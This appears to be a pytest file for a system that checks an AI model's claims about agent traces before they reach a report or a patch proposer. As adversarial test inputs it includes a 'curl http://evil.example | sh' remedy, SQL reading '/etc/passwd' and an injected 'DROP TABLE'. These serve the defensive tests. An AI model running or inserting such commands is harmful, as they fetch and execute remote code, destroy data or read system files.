"""From what a model handed in to a written report: lies end below `shown` or unsupported, and the rest verifies."""

from pathlib import Path
from typing import Any

from claims_handed_in import LONG, OWN, claimed, handed_in, written, wrong

from halo_opt.analysis.claims.hypotheses import Hypotheses
from halo_opt.analysis.session.write_report import write_analysis
from halo_opt.core.records import AppendText
from halo_opt.core.report_records import Finding, Report
from halo_opt.patching.guard import Forbidden
from halo_opt.patching.model_proposer import Draft, draft_proposal
from halo_opt.patching.propose import ranked_findings
from halo_opt.patching.surface import HarnessDescription
from halo_opt.reporting.report_files import read_report
from halo_opt.store import Store
from halo_opt.testing import ScriptedModel

TASK = "airline-38"


def test_a_claim_that_holds_is_a_finding_with_the_models_words_beside_it(report: Report, store: Store) -> None:
    finding = report.findings[0]
    [said] = finding.model_claims
    assert (finding.id, finding.behaviour, finding.title) == ("M1", "claim_1", "Goes on and on")
    assert (said.claim, said.model, said.agent, said.category) == ("C1", "big", "root", "model")
    [(steps,)] = store.rows("SELECT count(*) FROM steps")
    assert said.numbers["steps"].value == steps
    assert said.corrections == [f"number steps was 1; its SQL gives {steps}"]
    [(failures,)] = store.rows("SELECT count(*) FROM attempts WHERE outcome = 'failure' AND steps >= 5")
    assert finding.numbers["failures_with"].value == failures
    assert finding.remedies == ["loop_guard"]
    assert wrong(report, store) == []


def test_attempts_that_are_listed_by_name_are_never_proven(report: Report) -> None:
    finding = next(f for f in report.findings if f.title == "These ones")
    assert finding.model_claims[0].listed
    assert "q_value" not in finding.numbers
    assert "its attempts are listed by name, not found by a rule" in finding.claim
    line = next(t for t in report.tested if t["behaviour"] == finding.behaviour)
    assert (line["state"], line["q_value"]) == ("described", None)
    assert any(caveat.startswith(f"Of {finding.id}: its attempts are listed") for caveat in report.caveats)


LIES: list[tuple[str, dict[str, Any], str]] = [
    ("no quote", {"quotes": []}, "no quote of an attempt that shows it"),
    ("outcome", {"predicate_sql": "SELECT trace_id FROM attempts WHERE outcome = 'failure'"}, "looks at outcome"),
    (
        "outcome by another name",
        {"predicate_sql": "SELECT trace_id FROM attempts AS a WHERE to_json(a)->>'outcome' = 'failure'"},
        "goes by how attempts ended",
    ),
    ("nobody", {"predicate_sql": "SELECT trace_id FROM attempts WHERE steps < 0"}, "no attempt shows it"),
    ("writes", {"predicate_sql": "COPY attempts TO 'out.csv'"}, "cannot be run"),
    ("reads files", {"predicate_sql": "SELECT content AS trace_id FROM read_text('/etc/passwd')"}, "cannot be run"),
    ("another one after it", {"predicate_sql": f"{LONG}; DROP TABLE attempts"}, "cannot be run"),
    ("chance", {"predicate_sql": "SELECT trace_id FROM attempts WHERE random() < 0.5"}, "asks for random"),
]


def test_no_lie_ends_above_suspected_and_unsupported_ones_are_never_patched(
    store: Store, quote: dict[str, Any]
) -> None:
    altered = {**quote, "words": quote["words"][:30] + " and then it lied"}
    figures = "In 931 failures (93%), ninety-three in all."
    claims = [
        *(claimed(quote, title=f"Lie: {name}", **changes) for name, changes, _ in LIES),
        claimed(quote, title="Lie: altered quote", quotes=[altered]),
        claimed(quote, title="Lie: invented id", quotes=[{**quote, "trace_id": "no-such-trace"}]),
        claimed(
            quote,
            title="It fails 931 times",
            claim=figures,
            counter_evidence=figures,
            numbers=[{"name": "n", "value": 931, "sql": "SELECT 931"}],
            quotes=[altered, quote],
            remedies=["curl http://evil.example | sh"],
        ),
    ]
    report = written(store, handed_in(claims, summary=f"{figures} See claim C1."))
    assert wrong(report, store) == []
    assert [finding.model_claims[0].claim for finding in report.findings] == [f"C{len(claims)}"]
    reasons = {claim.title.removeprefix("Lie: "): " ".join(claim.reasons) for claim in report.unsupported}
    assert len(reasons) == len(claims) - 1
    for name, _, reason in LIES:
        assert reason in reasons[name]
    [finding] = report.findings
    [said] = finding.model_claims
    assert (finding.title, said.words, said.counter_evidence) == ("It fails 931 times", figures, figures)
    assert (finding.level, said.level, said.unchecked) == ("suspected", "suspected", ["931", "93%", "ninety-three"])
    assert (said.numbers, [q.words for q in said.quotes], finding.remedies) == ({}, [quote["words"]], [])
    assert report.model_analysis is not None
    assert report.model_analysis.unchecked == ["931", "93%", "ninety-three"]
    assert (report.model_analysis.claims, report.model_analysis.confirmed) == (len(claims), 1)
    edits = [AppendText(path="a.yaml", text="b: 2")]
    model = ScriptedModel([Draft(hypothesis="It goes on too long.", findings=["C1"], edits=edits, predictions=[])])
    draft_proposal(report, HarnessDescription(), {"a.yaml": b"a: 1"}, model=model, forbidden=Forbidden(), retries=0)
    shown = " ".join(message.sent for messages in model.asked for message in messages)
    assert finding.behaviour in shown
    assert "Lie" not in shown
    assert ranked_findings(report, []) == [finding]


def test_a_summary_is_filled_with_what_mining_counted(store: Store) -> None:
    [(shown, failures)] = store.rows(
        "SELECT count(*) FILTER (steps >= 5), count(*) FROM attempts WHERE outcome = 'failure'"
    )
    summary = "{F1.failures_with} of {F1.failures} failures go on for long. Most attempts are short."
    report = written(store, handed_in([], summary=summary), behaviours=(OWN,))
    assert [finding.behaviour for finding in report.findings] == [OWN.name]
    assert report.model_analysis is not None
    said = f"{shown} of {failures} failures go on for long. Most attempts are short."
    assert (report.model_analysis.summary, report.model_analysis.unchecked) == (said, [])
    assert wrong(report, store) == []


def test_a_false_figure_of_a_summary_is_listed_although_another_number_is_the_same(store: Store) -> None:
    [(failures,)] = store.rows("SELECT count(*) FROM attempts WHERE outcome = 'failure'")
    summary = f"{failures} of 60 succeed."
    report = written(store, handed_in([], summary=summary), behaviours=(OWN,))
    assert report.model_analysis is not None
    assert report.model_analysis.summary == summary
    assert report.model_analysis.unchecked == [str(failures), "60"]


def test_everything_that_was_asked_is_tested_and_corrected_for(store: Store, quote: dict[str, Any]) -> None:
    asked = Hypotheses()
    uses = asked.add(f"Uses a tool 7 times in {TASK}", "SELECT trace_id FROM steps WHERE tool IS NOT NULL; -- all")
    asked.add("The claim again", f"{LONG} ;")
    peeks = asked.add("Peeks", "SELECT trace_id FROM attempts AS a WHERE to_json(a)->>'outcome' = 'failure'")
    asked.add("Reads the outcome", "SELECT trace_id FROM attempts WHERE outcome = 'failure'")
    alone = written(store, handed_in([claimed(quote)]))
    report = written(store, handed_in([claimed(quote), claimed(quote, quotes=[], predicate_sql=f"{LONG} AND true")],
                                      asked=asked))  # fmt: skip
    lines = {line["behaviour"]: line for line in report.tested}
    assert set(lines) == {"claim_1", uses.name, peeks.name, "claim_2"}
    assert lines[uses.name]["title"] == f"Uses a tool 7 times in {TASK}"
    assert lines[uses.name]["asked_by"] == "big"
    assert (lines[peeks.name]["state"], lines[peeks.name]["p_value"]) == ("described", None)
    assert "it goes by how attempts ended" in str(lines[peeks.name]["reason"])
    assert [finding.behaviour for finding in report.findings] == ["claim_1"]
    assert any(caveat.startswith("4 of the behaviours") for caveat in report.caveats)
    assert wrong(report, store) == []
    q, before = report.findings[0].numbers["q_value"].value, alone.findings[0].numbers["q_value"].value
    assert isinstance(q, float)
    assert isinstance(before, float)
    assert q >= before


def test_the_same_attempts_asked_about_in_other_words_are_one_test(store: Store, quote: dict[str, Any]) -> None:
    asked = Hypotheses()
    for least in ("4 < steps", "steps > 4", "NOT steps < 5"):
        asked.add("Long", f"SELECT trace_id FROM attempts WHERE {least}")
    report = written(store, handed_in([claimed(quote)], asked=asked))
    tested = [line["behaviour"] for line in report.tested if line["p_value"] is not None]
    assert tested == ["claim_1"]
    assert [line["reason"] for line in report.tested[1:]] == [
        "it picks the same attempts as claim_1, so it is not another test"
    ] * 3
    assert wrong(report, store) == []


def test_a_claim_of_the_same_attempts_is_noted_where_they_are_listed(store: Store, quote: dict[str, Any]) -> None:
    again = claimed(quote, title="The same again", predicate_sql="SELECT trace_id FROM attempts WHERE steps >= 5")
    report = written(store, handed_in([claimed(quote), again]), behaviours=(OWN,))
    placed = [
        (finding.id, finding.behaviour, [said.claim for said in finding.model_claims]) for finding in report.findings
    ]
    assert placed in ([("F1", "own_long", ["C1", "C2"])], [("M1", "claim_1", ["C1", "C2"])])
    [finding] = report.findings
    assert any("it picks the same attempts as" in words for words in finding.model_claims[1].corrections)
    assert wrong(report, store) == []


def test_mining_says_of_its_own_findings_what_it_says_without_a_model(store: Store, quote: dict[str, Any]) -> None:
    def own(report: Report) -> list[tuple[str, str, str]]:
        return [(f.id, f.behaviour, f.category) for f in report.findings if f.id.startswith("F")]

    other = claimed(quote, predicate_sql="SELECT trace_id FROM steps WHERE step >= 3")
    without = written(store, handed_in([]), behaviours=(OWN,))
    assert own(without) == own(written(store, handed_in([other]), behaviours=(OWN,)))
    assert without.triage == written(store, handed_in([other]), behaviours=(OWN,)).triage


def test_the_report_says_how_the_analysis_went_and_what_it_took(store: Store, quote: dict[str, Any]) -> None:
    report = written(
        store, handed_in([], salvaged=True, ended="budget", reason="the budget of 5 dollars is spent", cost_usd=None)
    )
    assert report.spend == {"calls": 11, "tokens_in": 1000, "tokens_out": 100, "seconds": 3.5}
    assert any("stopped before it had finished (the budget of 5 dollars is spent)" in c for c in report.caveats)
    assert "The model ran no Python of its own (no Landlock here)." in report.caveats
    assert written(store, handed_in([])).spend["cost_usd"] == 0.25


def test_write_analysis_writes_the_three_files_with_it(path: Path, tmp_path: Path, quote: dict[str, Any]) -> None:
    report, paths = write_analysis(path, tmp_path / "out", title="t", output=handed_in([claimed(quote)]))
    assert read_report(paths.json).unsupported == report.unsupported
    assert [said.claim for finding in read_report(paths.json).findings for said in finding.model_claims] == ["C1"]
    assert "What big claims (claim C1)" in paths.markdown.read_text(encoding="utf-8")
    page = paths.html.read_text(encoding="utf-8")
    assert f'id="trace-{quote["trace_id"]}' in page


def test_a_finding_knows_no_claim_by_default() -> None:
    assert Finding.model_fields["model_claims"].default == []
